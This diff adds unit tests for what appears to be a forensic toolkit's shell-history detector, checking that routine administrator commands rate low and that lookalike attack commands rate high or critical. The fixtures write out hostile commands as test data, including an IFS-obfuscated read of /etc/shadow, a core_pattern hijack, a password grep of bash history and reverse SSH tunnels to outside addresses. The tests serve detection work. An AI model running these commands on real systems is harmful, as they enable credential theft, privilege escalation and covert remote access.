@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from forensic_toolkit.folding import folded
 from forensic_toolkit.readers.coverage import Coverage
 from forensic_toolkit.rules import shell_histories
 from tests.toolkit.fake_tree import Builder
@@ -49,3 +50,45 @@ def test_fish_writes_the_time_below_the_command() -> None:
         (1795000060.0, "for i in a"),
         (None, "id"),
     ]
+
+
+def test_an_administrators_history_of_a_public_ec2_host_is_not_grave() -> None:
+    """Commands of its own administrators that were high: of TLS tunnels' settings, of histories, of folders and keys."""
+    typed = """mkdir ../cats
+chmod 700 ~/.ssh
+vi /etc/stunnel/redis-client.conf
+chmod 640 /etc/stunnel/private.pem
+python -m SimpleHTTPServer 8000
+cat /root/.bash_history | grep chown
+gpg --version | sed -n 's/.*\\([0-9]*\\).*/x/p'
+OLD_IFS="${IFS}"
+sysctl -w kernel.core_pattern='|/usr/lib/systemd/systemd-coredump %P'
+"""
+    tree = Builder().add("/root/.bash_history", typed.encode()).tree()
+    found, _ = shell_histories.examine(tree, coverage=Coverage())
+    assert {item.severity for item in found} <= {"info", "low", "medium"}
+    assert {item.detail for item in found if item.severity == "medium"} == {
+        "python -m SimpleHTTPServer 8000", "cat /root/.bash_history | grep chown",
+    }  # fmt: skip
+
+
+def test_what_looks_like_these_and_is_not_stays_grave() -> None:
+    typed = """mkdir '.. '
+mkdir /tmp/...
+sudo stunnel /tmp/out.conf
+grep -i passw ~/.bash_history
+echo '|/tmp/x' > /proc/sys/kernel/core_pattern
+cat${IFS}/etc/shadow
+"""
+    tree = Builder().add("/root/.bash_history", typed.encode()).tree()
+    found, _ = shell_histories.examine(tree, coverage=Coverage())
+    assert {item.detail for item in found if item.severity in ("high", "critical")} == set(typed.splitlines())
+
+
+def test_many_commands_of_one_kind_are_one_finding_that_has_them_all() -> None:
+    typed = [f"ssh -R 80{number}:localhost:22 a@198.51.100.{number}" for number in range(8)]
+    tree = Builder().add("/root/.bash_history", "\n".join(typed).encode()).tree()
+    found, _ = shell_histories.examine(tree, coverage=Coverage())
+    (whole,) = [item for item in folded(found) if item.technique == "T1572"]
+    assert whole.count == 8 and whole.severity == "high" and whole.data["commands"] == typed
+    assert all(command in whole.detail for command in typed)
